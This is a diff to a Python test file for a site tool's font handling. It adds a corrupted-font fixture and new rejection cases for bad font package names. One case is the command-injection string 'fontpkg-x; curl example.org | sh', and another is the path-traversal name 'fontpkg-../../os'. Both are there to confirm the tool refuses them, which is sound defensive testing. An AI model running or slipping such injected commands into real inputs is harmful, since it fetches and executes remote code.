@@ -197,6 +197,13 @@ def test_family_of_a_font_file(name: str, tmp_path: Path) -> None:
 # --- fonts that are not there --------------------------------------------------------------------------------------
 
 
+def with_torn_characters(font: bytes) -> bytes:
+    """The font with a table of characters (`cmap`) that leads out of itself."""
+    entry = font.index(b"cmap")
+    start = int.from_bytes(font[entry + 8 : entry + 12], "big")
+    return font[: start + 4] + b"\xff" * 196 + font[start + 200 :]
+
+
 @pytest.mark.parametrize(
     ("name", "message"),
     [
@@ -207,8 +214,14 @@ def test_family_of_a_font_file(name: str, tmp_path: Path) -> None:
         ("empty.otf", '"empty.otf" cannot be read as a font'),
         ("exercises/squat.md", '"exercises/squat.md" cannot be read as a font'),
         ("exercises", 'there is no font file "exercises" in the content folder'),
-        ("fontpkg-", 'the font package "fontpkg-" is not installed'),
-        ("fontpkg-../../os", 'the font package "fontpkg-../../os" is not installed'),
+        (
+            "fontpkg-atkinson-hyperlegible.files",
+            '"fontpkg-atkinson-hyperlegible.files" cannot be the name of',
+        ),
+        ("fontpkg-x; curl example.org | sh", '"fontpkg-x; curl example.org | sh" cannot be the name of'),
+        ("torn.ttf", '"torn.ttf" cannot be read as a font'),
+        ("fontpkg-", '"fontpkg-" cannot be the name of a font package'),
+        ("fontpkg-../../os", '"fontpkg-../../os" cannot be the name of a font package'),
     ],
 )
 def test_no_such_font(name: str, message: str, project: Path, write: Write, run_cli: RunCli) -> None:
@@ -217,6 +230,7 @@ def test_no_such_font(name: str, message: str, project: Path, write: Write, run_
     write("content/site.yaml", f"{settings}fonts:\n  - {name}\n")
     write("content/broken.ttf", noto().read_bytes()[:300])
     write("content/empty.otf", b"")
+    write("content/torn.ttf", with_torn_characters(noto().read_bytes()))
     write("outside.ttf", noto().read_bytes())
     told = run_cli("check")
     assert told.code == 1
